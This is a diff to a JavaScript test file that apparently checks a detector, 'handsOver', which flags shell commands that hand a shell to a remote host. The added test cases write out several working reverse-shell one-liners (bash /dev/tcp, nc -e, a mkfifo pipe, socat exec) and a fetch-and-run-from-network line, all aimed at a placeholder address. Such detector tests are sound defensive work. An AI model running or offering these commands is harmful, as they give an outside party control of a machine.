@@ -37,9 +37,21 @@ describe('what a command says by itself', () => {
   });
 
   it('sees a shell that is handed over', () => {
-    expect(handsOver('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')).toBe(true);
-    expect(handsOver('nc -e /bin/sh 192.0.2.1 4444')).toBe(true);
-    expect(handsOver('nc -z db.example.com 5432')).toBe(false);
+    const handed = [
+      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
+      'nc -e /bin/sh 192.0.2.1 4444',
+      'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
+      'cat < /dev/tcp/192.0.2.1/80 | bash',
+      "socat tcp:192.0.2.1:443 exec:'bash -li',pty",
+    ];
+    const asked = [
+      'nc -z db.example.com 5432',
+      "timeout 1 bash -c '</dev/tcp/127.0.0.1/8080'",
+      'until echo > /dev/tcp/db/5432; do sleep 1; done',
+      'socat TCP-LISTEN:80,fork EXEC:/usr/bin/app',
+    ];
+    expect(handed.filter((command) => !handsOver(command))).toEqual([]);
+    expect(asked.filter(handsOver)).toEqual([]);
   });
 
   it('knows folders that nobody keeps, and those that hide', () => {
